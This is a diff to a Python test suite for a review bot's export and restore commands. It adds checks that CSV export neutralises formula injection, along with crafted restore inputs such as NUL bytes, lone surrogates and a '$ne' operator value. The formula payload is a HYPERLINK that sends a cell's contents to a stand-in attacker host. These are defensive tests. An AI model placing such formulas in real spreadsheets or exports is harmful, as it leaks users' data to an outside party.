@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import itertools
 import json
 import logging
@@ -14,7 +15,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from bot.client import ReviewBot
@@ -127,6 +128,16 @@ async def test_an_export_restores_everything_into_an_empty_database(
     )
     assert status == 0 and (csv_dir / "impressions.csv").read_text().count("\n") == 3  # header and two rows
 
+    # A spreadsheet opening the CSV runs a cell that starts like a formula: a member's text never does.
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    await alice.submit(await alice.slash("impression post", series="series:3", scope="completed"), text=formula)
+    status, _ = await run_cli(
+        bot.settings.database_path, "export", "--guild", str(guild_id), "--format", "csv", "--out", str(tmp_path / "f")
+    )
+    with (tmp_path / "f" / "impressions.csv").open(newline="", encoding="utf-8") as handle:
+        texts = [row["text"] for row in csv.DictReader(handle)]
+    assert status == 0 and "'" + formula in texts and "One, revised." in texts
+
 
 async def test_moderators_download_the_export(alice: Member, mira: Member) -> None:
     [choice, *_] = await alice.autocomplete("impression post", "series", "metallic rouge")
@@ -176,7 +187,6 @@ async def test_a_crafted_restore_file_is_refused_whole(
             },
         ),
         ("should be int", {"impressions": [{**genuine["impressions"][0], "author_id": {"$ne": 0}}]}),
-        ("holds a NUL character", {"impressions": [{**genuine["impressions"][0], "text": "cut\u0000here"}]}),
         (
             "not in the export",
             {
@@ -205,12 +215,22 @@ async def test_a_crafted_restore_file_is_refused_whole(
         after = table(fresh, "SELECT count(*) FROM impressions"), table(fresh, "SELECT count(*) FROM member_notices")
         assert after == before, sentence
 
+    # Text no database stores (NUL, half a UTF-16 pair) is read as every text from outside is: made storable.
+    odd = tmp_path / "odd.json"
+    odd.write_text(
+        json.dumps({**genuine, "impressions": [{**genuine["impressions"][0], "text": "cut\u0000here \ud800"}]})
+    )
+    status, output = await run_cli(fresh, "import-export", str(odd))
+    assert status == 0, output
+    assert table(fresh, "SELECT count(*) FROM impressions WHERE text = 'cuthere \ufffd'") == [(1,)]
+
     # Any one value of the export replaced by any JSON value: restored, or refused whole with a sentence.
+    # (Given as a document, not a file: the restore's own checks refuse what read_json would have cleaned.)
     from bot.store.export import ExportError, import_guild
 
     values = st.recursive(
         st.none() | st.booleans() | st.floats() | st.text(max_size=8) | st.integers()
-        | st.sampled_from([2**63, -(2**64), 10**30, "\x00"]),
+        | st.sampled_from([2**63, -(2**64), 10**30, "\x00", "half \ud800 a pair"]),
         lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
         max_leaves=6,
     )  # fmt: skip
@@ -223,6 +243,8 @@ async def test_a_crafted_restore_file_is_refused_whole(
 
     @settings(max_examples=80, deadline=None)
     @given(st.sampled_from(places), values)
+    @example(("impressions", 0, "text"), "half \ud800 a pair")  # no database encodes it
+    @example(("series", 0, "title"), "cut\x00here")
     def restore_with_one_value_changed(place: tuple[str, int | None, str | None], value: object) -> None:
         name, row, key = place
         document = json.loads(json.dumps(genuine))
